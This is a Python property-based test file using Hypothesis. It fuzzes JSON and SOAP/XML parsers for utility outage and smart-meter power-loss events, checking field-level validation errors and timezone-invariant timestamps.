@given(adapter=st.sampled_from(JSON_ADAPTERS), data=st.data())
def test_breaking_a_required_field_of_a_valid_message_names_that_field(adapter, data):
    message, required = VALID[adapter]
    field = data.draw(st.sampled_from(required))
    bad_text = ["", " "] if field in IDS else ["", "Nope", "2025-06-01T10:00:00"]
    bad = data.draw(st.none() | st.booleans() | st.floats(allow_nan=False, allow_infinity=False)
                    | st.lists(FINITE, max_size=2)
                    | st.dictionaries(st.text(max_size=3), FINITE, max_size=2)
                    | st.sampled_from(bad_text))
    broken = {**message, field: bad}
    if bad is None:
        del broken[field]
    with pytest.raises(InvalidInput) as caught:
        adapter.parse(json.dumps(broken).encode())
    assert field in {e["field"] for e in caught.value.errors}


@settings(max_examples=100, deadline=None)
@given(instants=st.lists(st.datetimes(min_value=datetime(1990, 1, 1),
                                      max_value=datetime(2100, 1, 1), timezones=st.just(UTC)),
                         min_size=1, max_size=8),
       offset_minutes=st.integers(-14 * 60, 14 * 60))
def test_writing_the_same_instants_in_another_offset_changes_nothing(instants, offset_minutes):
    zone = timezone(timedelta(minutes=offset_minutes))
    for adapter, (message, _) in VALID.items():
        def body(tz: timezone, message: dict = message) -> bytes:
            return json.dumps([{**message, "timestamp": t.astimezone(tz).isoformat(),
                                "onuId": f"ONU-{i}", "ticketId": f"T-{i}",
                                "feederId": f"F-{i}"}
                               for i, t in enumerate(instants)]).encode()
        in_utc, shifted = adapter.parse(body(UTC)), adapter.parse(body(zone))
        assert shifted == in_utc and len(in_utc) == len(instants)
        assert [e["occurred_at"] for e in in_utc] == [t.isoformat() for t in instants]


XML_NAMES = st.sampled_from([
    "Envelope", "Body", "Header", "Fault", "CreatedEndDeviceEvents", "EventMessage", "Verb",
    "Noun", "Timestamp", "Payload", "EndDeviceEvents", "EndDeviceEvent", "mRID",
    "createdDateTime", "Assets", "EndDeviceEventType", "EndDeviceEventDetails", "name",
    "value", "x"])
XML_TEXT = st.none() | st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")),
                               max_size=10) | st.sampled_from([
    "created", "EndDeviceEvents", "2025-06-01T10:00:00Z", "2025-06-01T10:00:00", "KFM-1",
    "3.26.0.85", "3.26.0.216"])


@st.composite
def xml_trees(draw, depth: int = 0) -> ElementTree.Element:
    namespace = draw(st.sampled_from(["", "{http://schemas.xmlsoap.org/soap/envelope/}",
                                      "{urn:iec}"]))
    element = ElementTree.Element(namespace + draw(XML_NAMES))
    element.text = draw(XML_TEXT)
    if draw(st.booleans()):
        element.set("ref", draw(st.sampled_from(["3.26.0.85", "3.26.0.216", "1.2.3", ""])))
    if depth < 4:
        element.extend(draw(st.lists(xml_trees(depth + 1), max_size=3)))
    return element


def mostly(valid: list[str], invalid: list[str]) -> st.SearchStrategy[str]:
    text = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=8)
    return st.sampled_from(valid) | st.sampled_from(valid) | st.sampled_from(invalid) | text


@st.composite
def near_valid_soap(draw) -> bytes:
    """A well-formed message whose events carry arbitrary meters, codes and times."""
    parts = draw(st.lists(st.tuples(
        mostly(["KFM-1", "KFM-2"], ["", "M" * 70]),
        mostly(["3.26.0.85", "3.26.0.216", "0.26.38.49"], ["4.26.0.85", "1.2", "3.26.0.99999"]),
        mostly(["2025-06-01T10:15:02Z", "2025-06-01T12:15:02.5+02:00"],
               ["2025-06-01T10:15:02", "9999-12-31T23:59:59-01:00"])), max_size=4))
    return soap("".join(end_device_event(escape(meter), escape(code, {'"': "&quot;"}),
                                         escape(created)) for meter, code, created in parts))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=xml_trees().map(ElementTree.tostring) | near_valid_soap()
       | st.binary(max_size=200))
def test_any_xml_gives_events_or_invalid_input_never_another_error(body):
    try:
        events = kaifa.parse(body)
    except InvalidInput as exc:
        assert exc.errors and all(set(e) == {"index", "field", "reason"} for e in exc.errors)
        return
    assert_canonical(events)
    assert all(e["source"] == "ami" and e["kind"] in ("power_loss", "power_restored")
               for e in events)
